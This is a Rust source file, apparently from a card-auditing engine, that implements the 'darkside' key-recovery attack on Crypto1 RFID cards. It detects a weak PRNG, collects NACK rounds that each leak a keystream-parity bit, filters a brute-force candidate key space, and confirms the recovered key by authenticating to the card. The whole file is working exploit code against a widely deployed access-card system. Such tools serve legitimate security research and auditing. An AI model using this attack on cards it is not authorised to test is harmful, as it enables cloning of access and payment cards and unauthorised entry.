//! Darkside attack (C6): exploits a NACK on failed authentication plus a
//! weak PRNG to collapse the key candidate space for one block.

use crate::crypto1::{Crypto1, BRUTE_FORCE_BOUND};
use crate::error::{EngineError, EngineResult, NotVulnerableReason};
use crate::keytable::Key;
use crate::transport::{abort_if_cancelled, DeviceTransport, PrngStatic, PrngWeak};
use log::{info, warn};
use std::sync::atomic::AtomicBool;

/// Maximum number of NACK rounds to acquire before giving up with
/// `NotVulnerable(NoCandidate)` — the source's undocumented `-4` return
/// code (§9 design notes); we surface it as an explicit reason rather than
/// silently failing.
const MAX_ROUNDS: usize = 64;

/// Run the darkside attack against `block`, narrowing the candidate key
/// space (every key below [`BRUTE_FORCE_BOUND`], not a caller-supplied
/// dictionary) down by the keystream-parity bit each NACK round leaks,
/// then confirming the survivor(s) with a real authentication.
pub fn run(transport: &mut dyn DeviceTransport, block: usize, cancel: &AtomicBool) -> EngineResult<Key> {
    if transport.detect_prng_static()? == PrngStatic::Static {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::PrngAnomalous));
    }
    if transport.detect_prng_weak()? != PrngWeak::Weak {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::PrngUnpredictable));
    }

    let card = transport.select()?;
    let cuid = card.uid32();

    let mut candidates: Vec<Key> = (0..BRUTE_FORCE_BOUND).collect();
    let mut saw_nack = false;

    for round in 0..MAX_ROUNDS {
        abort_if_cancelled(cancel)?;
        let sample = transport.darkside_step(block)?;
        if !sample.nacked {
            if round == 0 {
                return Err(EngineError::NotVulnerable(NotVulnerableReason::NoNack));
            }
            break;
        }
        saw_nack = true;

        candidates.retain(|&key| {
            let mut cipher = Crypto1::new(key);
            cipher.clock_word_plain(cuid ^ sample.nt);
            cipher.filter_bit() == sample.ks_parity_bit
        });
        info!("darkside round {round}: {} candidate(s) remain", candidates.len());

        if candidates.len() == 1 {
            break;
        }
        if candidates.is_empty() {
            break;
        }
    }

    if !saw_nack {
        return Err(EngineError::NotVulnerable(NotVulnerableReason::NoNack));
    }

    for &key in &candidates {
        if transport.authenticate(block, crate::keytable::KeyType::A, key).is_ok() {
            return Ok(key);
        }
    }
    warn!("darkside: no candidate authenticated after {} round(s)", MAX_ROUNDS);
    Err(EngineError::NotVulnerable(NotVulnerableReason::NoCandidate))
}
